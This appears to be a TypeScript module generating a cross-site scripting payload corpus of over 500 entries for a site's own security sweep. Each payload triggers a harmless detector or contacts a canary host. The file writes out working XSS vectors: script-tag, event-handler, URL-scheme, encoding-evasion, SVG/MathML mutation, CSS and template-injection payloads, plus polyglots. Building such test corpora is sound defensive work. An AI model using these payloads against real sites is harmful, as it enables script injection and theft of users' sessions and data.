/**
 * The XSS corpus of the published-site sweep (docs/TRUST.md §4): over 500 distinct payloads,
 * built from parts. Every payload, if it ran, would call a detector the browser harness
 * watches: `__xss(id)` (a binding in every frame), a dialog (`alert`, `confirm`, `prompt`),
 * or a request to the canary host. The id is the payload's index, so a hit names its payload.
 */

/** A host no page of ours names: any request to it is markup or script that got through. */
export const CANARY_HOST = "xss-canary.test";

/** One payload of the corpus. */
export interface XssPayload {
  id: number;
  /** Which family of attack it belongs to. */
  family: string;
  text: string;
}

type Call = (id: number) => string;

// Ways to reach a detector: direct, through top/parent/globals, via eval and its cousins,
// as a dialog, or by loading the canary.
const CALLS: readonly Call[] = [
  (id) => `__xss(${id})`,
  (id) => `top.__xss(${id})`,
  (id) => `alert(${id})`,
  (id) => `parent['__xss'](${id})`,
  (id) => `confirm(${id})`,
  (id) => `self[atob('X194c3M')](${id})`,
  (id) => `eval('__xss(${id})')`,
  (id) => `setTimeout('__xss(${id})')`,
  (id) => `Function('__xss(${id})')()`,
  (id) => `__xss\`${id}\``,
  (id) => `import('//${CANARY_HOST}/${id}.js')`,
  (id) => `fetch('//${CANARY_HOST}/${id}')`,
  (id) => `(new Image).src='//${CANARY_HOST}/${id}'`,
  (id) => `prompt(${id})`,
  (id) => `window.__xss?.(${id})`,
  (id) => `[${id}].map(__xss)`,
  (id) => `globalThis.__xss(${id})`,
  (id) => `navigator.sendBeacon('//${CANARY_HOST}/${id}')`,
];

/** A payload template: `§` becomes a detector call, `¤` the payload's id; or a function of both. */
type Template = string | ((call: string, id: number) => string);

const base64 = (text: string) => Buffer.from(text).toString("base64");

const SCRIPT_TAGS: Template[] = [
  "<script>§</script>",
  "<SCRIPT>§</SCRIPT>",
  '<script type="module">§</script>',
  "<script type=text/javascript>§</script>",
  "<script src=data:text/javascript,§></script>",
  `<script src=//${CANARY_HOST}/¤.js></script>`,
  `<script/src=//${CANARY_HOST}/¤.js></script>`,
  "<script>/*</script>*/§</script>",
  "<scr<script>ipt>§</scr</script>ipt>",
  "<script\n>§</script\n>",
  "<script x>§</script x>",
  "<<script>§//<</script>",
  "<script>§<!--",
  "<script defer>§</script>",
  "<script async src=data:,§></script>",
  "<svg><script>§</script></svg>",
  "<svg><script href=data:,§ /></svg>",
  "<svg><script xlink:href=data:,§></script></svg>",
  "<script>document.write('<img src=x onerror=§>')</script>",
  "<script charset=utf-7>§</script>",
  "<script\tsrc=data:,§></script>",
  "<script>{§}</script>",
  "<script>\\u005f_xss(¤)</script>",
  "<script >§</script >",
  "<script>//\n§</script>",
  "<script type=text/html>x</script><script>§</script>",
];

// Elements with what they need for the handler to fire on its own (or on a hover or click).
const HANDLER_TAGS: { tag: string; attrs: string; events: string[]; close?: boolean }[] = [
  { tag: "img", attrs: "src=x", events: ["onerror"] },
  { tag: "image", attrs: "src=x", events: ["onerror"] },
  { tag: "video", attrs: "src=x", events: ["onerror", "onloadstart"], close: true },
  { tag: "audio", attrs: "src=x", events: ["onerror", "onloadstart"], close: true },
  { tag: "svg", attrs: "", events: ["onload"], close: true },
  { tag: "body", attrs: "", events: ["onload", "onpageshow", "onfocus"] },
  { tag: "iframe", attrs: "src=about:blank", events: ["onload"], close: true },
  { tag: "input", attrs: "autofocus", events: ["onfocus", "onfocusin", "onblur"] },
  { tag: "select", attrs: "autofocus", events: ["onfocus"], close: true },
  { tag: "textarea", attrs: "autofocus", events: ["onfocus"], close: true },
  { tag: "keygen", attrs: "autofocus", events: ["onfocus"] },
  { tag: "details", attrs: "open", events: ["ontoggle"], close: true },
  { tag: "marquee", attrs: "", events: ["onstart"], close: true },
  { tag: "object", attrs: "data=x", events: ["onerror"], close: true },
  { tag: "embed", attrs: "src=x", events: ["onerror", "onload"] },
  { tag: "style", attrs: "", events: ["onload"], close: true },
  { tag: "link", attrs: "rel=stylesheet href=x", events: ["onerror", "onload"] },
  {
    tag: "a",
    attrs: "href=# autofocus",
    events: ["onfocus", "onclick", "onmouseover"],
    close: true,
  },
  {
    tag: "div",
    attrs: "tabindex=1 autofocus",
    events: ["onfocus", "onfocusin", "onmouseover"],
    close: true,
  },
  {
    tag: "x",
    attrs: "style=animation-name:sw-spin",
    events: ["onanimationstart", "onanimationend"],
    close: true,
  },
  { tag: "button", attrs: "autofocus", events: ["onfocus", "onclick"], close: true },
  { tag: "form", attrs: "", events: ["onsubmit", "onformdata"], close: true },
  { tag: "frameset", attrs: "", events: ["onload"] },
  { tag: "isindex", attrs: "type=image src=x", events: ["onerror"] },
  { tag: "input", attrs: "type=image src=x", events: ["onerror"] },
  { tag: "source", attrs: "src=x", events: ["onerror"] },
  { tag: "track", attrs: "src=x default", events: ["onerror"] },
  { tag: "meter", attrs: "", events: ["onmouseover", "onpointerenter"], close: true },
  { tag: "span", attrs: "", events: ["onpointerover", "onauxclick", "oncontextmenu"], close: true },
  { tag: "table", attrs: "", events: ["onmouseover"], close: true },
  { tag: "body", attrs: "", events: ["onresize", "onhashchange", "onscroll"] },
  { tag: "svg", attrs: "", events: ["onmouseover", "onclick"], close: true },
  { tag: "math", attrs: "", events: ["onmouseover"], close: true },
  { tag: "dialog", attrs: "open", events: ["onclose", "onfocusin"], close: true },
  { tag: "div", attrs: "popover id=p", events: ["onbeforetoggle"], close: true },
  { tag: "p", attrs: "draggable=true", events: ["ondragstart"], close: true },
  { tag: "picture", attrs: "", events: ["onmouseover"], close: true },
  { tag: "output", attrs: "", events: ["onmouseover"], close: true },
  { tag: "body", attrs: "", events: ["onpagehide", "onbeforeunload", "onunload"] },
  { tag: "iframe", attrs: 'srcdoc="x"', events: ["onload"], close: true },
  { tag: "object", attrs: "data=x", events: ["onload"], close: true },
  {
    tag: "x",
    attrs: "contenteditable autofocus",
    events: ["onfocus", "onbeforeinput"],
    close: true,
  },
  { tag: "html", attrs: "", events: ["onmouseover", "onclick"] },
  { tag: "img", attrs: "src=x", events: ["onpointerenter", "ontransitionend"] },
  { tag: "video", attrs: "autoplay muted src=x", events: ["onplay", "onstalled"], close: true },
];

/** Each element × handler in four spellings: plain, quoted, slash-separated and upper case. */
function handlerPayloads(): string[] {
  const out: string[] = [];
  HANDLER_TAGS.forEach(({ tag, attrs, events, close }, t) => {
    for (const event of events) {
      const end = close ? `</${tag}>` : "";
      const spellings = [
        `<${tag} ${attrs} ${event}=§>${end}`,
        `<${tag} ${attrs} ${event}="§">${end}`,
        `<${tag}/${attrs.replace(/ /g, "/")}/${event}=§>${end}`,
        `<${tag.toUpperCase()} ${attrs.toUpperCase()} ${event.toUpperCase()}='§'>${end}`,
      ];
      // Every handler gets two of the four spellings, chosen so all four occur.
      out.push(spellings[t % 4]!, spellings[(t + 2) % 4]!);
    }
  });
  return out.map((payload) => payload.replace(/ {2,}/g, " ").replace(/< /, "<"));
}

// Closing the context a value might land in: an attribute, a title, a style, a comment …
const BREAKOUT_PREFIXES = [
  '"',
  "'",
  "`",
  '">',
  "'>",
  '"/>',
  "'/>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</select>",
  "</option>",
  "</iframe>",
  "</noembed>",
  "</xmp>",
  "</a>",
  "</svg>",
  "</math>",
  "*/",
  "</head>",
  "<!--",
  '"-->',
  "</p>",
  "</form>",
  '"></a>',
];
const BREAKOUT_INNERS = [
  " autofocus onfocus=§ x=",
  "<img src=x onerror=§>",
  "<svg onload=§>",
  "<details open ontoggle=§>",
  "<iframe src=javascript:§>",
];

function breakoutPayloads(): Template[] {
  const out: Template[] = [];
  for (const prefix of BREAKOUT_PREFIXES) {
    const isQuote = /^["'`]$/.test(prefix);
    for (const inner of BREAKOUT_INNERS) {
      // An attribute injection only makes sense straight after a quote.
      if (inner.startsWith(" ") && !isQuote) continue;
      out.push(`${prefix}${inner}`);
    }
    if (isQuote) out.push(`${prefix} onmouseover=${prefix}§${prefix} style=${prefix}display:block`);
  }
  return out;
}

// Link and image values: script schemes with case, whitespace, control characters and entities.
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\tjavascript:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "\u0001javascript:",
  "\u000bjavascript:",
  "javascript\t:",
  "jav&#x09;ascript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058",
  "javascript&colon;",
  "javas&#99;ript:",
  "%6Aavascript:",
  "javascript%3A",
  "\u00a0javascript:",
  "\ufeffjavascript:",
  "vbscript:",
  "VBScript:",
  "livescript:",
  "mocha:",
  "feed:javascript:",
  "javascript://%0a",
  "javascript://comment%0d%0a",
  "javascript:/*-/*`/*\\`/*'/*\"/**/",
];

function schemePayloads(): Template[] {
  const out: Template[] = [];
  SCHEMES.forEach((scheme, i) => {
    out.push(`${scheme}§`);
    if (i % 2 === 0) out.push(`${scheme}void(§)`);
    else out.push(`${scheme}§//`);
  });
  const html = "<script>§</script>";
  out.push(
    `data:text/html,${html}`,
    (call) => `data:text/html;base64,${base64(html.replace("§", call))}`,
    `DATA:text/html,${html}`,
    (call) => `data:text/html;charset=utf-8,${encodeURIComponent(html.replace("§", call))}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="§"/>`,
    (call) =>
      `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)}`,
    `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>§</script></html>`,
    `data:text/javascript,§`,
    ` data:text/html,${html}`,
    `\tdata:text/html,${html}`,
    `//${CANARY_HOST}/¤`,
    `\\\\${CANARY_HOST}\\¤`,
    `/\\${CANARY_HOST}/¤`,
    `https:javascript:§`,
    `http://x/"onmouseover="§`,
    `https://a.example/x.png" onerror="§`,
    `https://a.example/x.png' onerror='§`,
    `/uploads/x.png"><img src=x onerror=§>`,
    `/"><svg onload=§>`,
    `#"><img src=x onerror=§>`,
    `?"><script>§</script>`,
  );
  return out;
}

const ENCODED: Template[] = [
  "&lt;script&gt;§&lt;/script&gt;",
  "&#60;script&#62;§&#60;/script&#62;",
  "&#x3c;img src=x onerror=§&#x3e;",
  "&#0000060img src=x onerror=§&#0000062",
  "\\u003cscript\\u003e§\\u003c/script\\u003e",
  "\\x3cscript\\x3e§\\x3c/script\\x3e",
  "%3Cscript%3E§%3C%2Fscript%3E",
  "%253Cscript%253E§%253C%252Fscript%253E",
  "\uff1cscript\uff1e§\uff1c/script\uff1e",
  "+ADw-script+AD4-§+ADw-/script+AD4-",
  "\\74script\\76§\\74/script\\76",
  "&lt;img src=x onerror=§&gt;",
  "\u003cimg src=x onerror=§\u003e",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;¤&#41;>",
  "<img src=x onerror=\\u0061lert(¤)>",
  "<img src=x onerror=\\x61lert(¤)>",
  "<a href=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:§>x</a>",
  '<a href="&#106;avascript:§">x</a>',
  '<a href="javas&Tab;cript:§">x</a>',
  '<a href="javas&NewLine;cript:§">x</a>',
  '<iframe src="&#106;avascript:§"></iframe>',
  "\ud83d\ude00<script>§</script>",
  "<scr\u0131pt>§</scr\u0131pt>",
  "<\u200bscript>§</script>",
];

const MARKUP: Template[] = [
  "<svg><animate onbegin=§ attributeName=x dur=1s>",
  "<svg><set onbegin=§ attributeName=x to=1>",
  "<svg><discard onbegin=§>",
  '<svg><a xlink:href="javascript:§"><text x=20 y=20>x</text></a></svg>',
  "<svg><a><animate attributeName=href values=javascript:§ /><text x=20 y=20>x</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
  '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;image href=1 onerror=§ /&gt;&lt;/svg&gt;#x"/></svg>',
  "<svg><style><img src=x onerror=§></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=§>",
  '<math><mi xlink:href="javascript:§">x</mi></math>',
  '<math href="javascript:§"><mi>x</mi></math>',
  "<math><maction actiontype=statusline onclick=§>x</maction></math>",
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<svg></p><style><a id="</style><img src=1 onerror=§>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
  "<template><img src=x onerror=§></template>",
  "<xmp><img src=x onerror=§></xmp>",
  "<listing>&lt;img src=x onerror=§&gt;</listing>",
  '<noembed><img title="</noembed><img src=x onerror=§>"></noembed>',
  '<iframe srcdoc="<script>§</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=§&gt;"></iframe>',
  "<iframe src=javascript:§></iframe>",
  `<iframe src=//${CANARY_HOST}/¤></iframe>`,
  '<object data="data:text/html,<script>§</script>"></object>',
  '<embed src="data:text/html,<script>§</script>">',
  "<select><template shadowrootmode=open><img src=x onerror=§></template></select>",
  '<div><template shadowrootmode="open"><img src=x onerror=§></template></div>',
  "<style><style/><img src=x onerror=§>",
  '<table><td background="javascript:§">x</td></table>',
  '<base href="javascript:§//">',
  `<base href="//${CANARY_HOST}/¤/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:§">',
  `<meta http-equiv="refresh" content="0;url=//${CANARY_HOST}/¤">`,
  `<link rel=import href=//${CANARY_HOST}/¤>`,
  `<link rel=stylesheet href=//${CANARY_HOST}/¤.css>`,
  `<link rel=modulepreload href=//${CANARY_HOST}/¤.js>`,
  "<img srcset=x onerror=§>",
  `<img src=//${CANARY_HOST}/¤>`,
  '<a href="javascript:§" id=swx>click</a>',
  '<form action="javascript:§"><button>go</button></form>',
  '<form><button formaction="javascript:§">go</button></form>',
  '<input type=submit formaction="javascript:§" value=go>',
  '<object data="javascript:§"></object>',
  "<embed src=javascript:§>",
  '<isindex action="javascript:§" type=submit>',
  "<img src=`x`onerror=§>",
  "<img src=x:x onerror=§//",
  "<img src=x onerror=§",
  "<svg/onload=§",
  "<!--<img src=--><img src=x onerror=§//>",
  "<![CDATA[<img src=x onerror=§>]]>",
  "<?xml-stylesheet href=javascript:§?>",
  "<a href=# onclick=§>x</a>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:§ /><a id=x><text>x</text></a>",
  "<a href=javascript&colon;§>x</a>",
  '<img src=x onerror="&#x5f;&#x5f;xss(¤)">',
  "<svg><image href=x onerror=§ />",
];

const CSS: Template[] = [
  "</style><script>§</script>",
  "red;}</style><img src=x onerror=§>",
  'red;}body{background:url("javascript:§")}',
  "expression(§)",
  "x:expression(§)",
  "width:expression(§)",
  "url(javascript:§)",
  'url("javascript:§")',
  "@import 'javascript:§';",
  `@import url(//${CANARY_HOST}/¤.css);`,
  `-moz-binding:url(//${CANARY_HOST}/¤.xml#x)`,
  `behavior:url(//${CANARY_HOST}/¤.htc)`,
  "}</style><svg onload=§>",
  "\\3c /style\\3e \\3c script\\3e §\\3c /script\\3e",
  "</STYLE/><SCRIPT>§</SCRIPT>",
  `red</style><style>*{background:url(//${CANARY_HOST}/¤)}</style>`,
  `#fff;background-image:url(//${CANARY_HOST}/¤)`,
  "var(--x);}*{x:expression(§)}",
  "red;-o-link:'javascript:§';-o-link-source:current",
  `inherit;background:url(//${CANARY_HOST}/¤)`,
];

const TEMPLATES: Template[] = [
  "{{constructor.constructor('§')()}}",
  "{{$on.constructor('§')()}}",
  "${§}",
  "#{§}",
  "<%= § %>",
  "{{=§}}",
  "[[${§}]]",
  "@{§}",
  "{%§%}",
  "{§}",
  "${{§}}",
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };§//');}}",
  "<div v-html=\"'<img src=x onerror=§>'\">",
  "<div ng-app ng-csp><div ng-focus=§ tabindex=0 autofocus>x</div></div>",
];

const JSON_BREAKOUTS: Template[] = [
  "</script><script>§</script>",
  '"};§;//',
  '"]});§;//',
  "';§;//",
  '\\";§;//',
  "'-§-'",
  '"-§-"',
  "\u2028§",
  "</script><!--<script>§//",
  '{"a":"</script><svg onload=§>"}',
  "`;§;//",
  "*/§/*",
  "\\u0022;§;//",
  "</script ><img src=x onerror=§>",
];

const POLYGLOTS: Template[] = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=§//>\\x3e",
  '\'">><marquee><img src=x onerror=§></marquee>"></plaintext\\></|\\><plaintext/onmouseover=§>',
  "\"'--></style></script><svg onload=§>",
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=§//>',
  "'\";§;//</script></title><svg/onload=§>",
  '-->\'"/></sCript><deTailS open x=">" ontoggle=(§)>',
  '"><img src=x onerror=§>${§}{{§}}',
  "';§;'\"><svg onload=§>`/*</textarea></title><script>§</script>",
];

const FAMILIES: [string, Template[]][] = [
  ["script tag", SCRIPT_TAGS],
  ["event handler", handlerPayloads()],
  ["attribute or tag breakout", breakoutPayloads()],
  ["url scheme", schemePayloads()],
  ["entity or unicode escape", ENCODED],
  ["svg, mathml or mutation", MARKUP],
  ["css breakout", CSS],
  ["template injection", TEMPLATES],
  ["json or script breakout", JSON_BREAKOUTS],
  ["polyglot", POLYGLOTS],
];

function buildCorpus(): XssPayload[] {
  const seen = new Set<string>();
  const corpus: XssPayload[] = [];
  let turn = 0;
  for (const [family, templates] of FAMILIES) {
    for (const template of templates) {
      const id = corpus.length + 1;
      const call = CALLS[turn % CALLS.length]!(id);
      turn += 1;
      const text =
        typeof template === "string"
          ? template.replaceAll("§", call).replaceAll("¤", String(id))
          : template(call, id);
      if (seen.has(text)) continue;
      seen.add(text);
      corpus.push({ id, family, text });
    }
  }
  return corpus;
}

/** The whole corpus, in family order; ids start at 1. */
export const XSS_PAYLOADS: readonly XssPayload[] = buildCorpus();

/** The subset every push runs: payloads taken from each family in turn, `size` in all. */
export function quickPayloads(size = 50): XssPayload[] {
  const byFamily = FAMILIES.map(([family]) => XSS_PAYLOADS.filter((p) => p.family === family));
  const picked: XssPayload[] = [];
  for (let round = 0; picked.length < size; round++) {
    let added = false;
    for (const list of byFamily) {
      // Spread the picks over each family rather than taking its first few.
      const step = Math.max(1, Math.floor(list.length / Math.ceil(size / byFamily.length)));
      const payload = list[round * step];
      if (payload && picked.length < size) {
        picked.push(payload);
        added = true;
      }
    }
    if (!added) break;
  }
  return picked;
}
